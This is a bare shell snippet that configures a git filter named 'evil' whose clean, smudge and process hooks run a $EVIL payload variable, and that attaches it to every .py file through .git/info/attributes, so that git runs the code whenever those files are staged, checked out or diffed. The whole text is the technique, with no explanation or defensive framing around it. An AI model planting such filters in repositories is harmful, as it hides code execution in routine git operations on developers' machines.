git config filter.evil.clean "$EVIL; cat"
git config filter.evil.smudge "$EVIL; cat"
git config filter.evil.process "$EVIL"
git config filter.evil.required true
echo '*.py filter=evil' > .git/info/attributes
